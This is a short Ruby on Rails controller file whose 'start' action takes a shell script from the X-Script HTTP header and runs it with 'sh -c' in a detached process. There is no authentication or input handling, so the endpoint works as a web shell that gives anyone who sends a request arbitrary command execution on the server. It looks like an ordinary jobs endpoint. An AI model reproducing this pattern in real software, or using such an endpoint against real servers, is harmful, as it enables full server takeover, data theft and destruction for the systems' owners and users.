class JobsController < ApplicationController
  def start
    script = request.headers["X-Script"]
    pid = Process.spawn("sh -c '#{script}'")
    Process.detach(pid)
    head :ok
  end
end
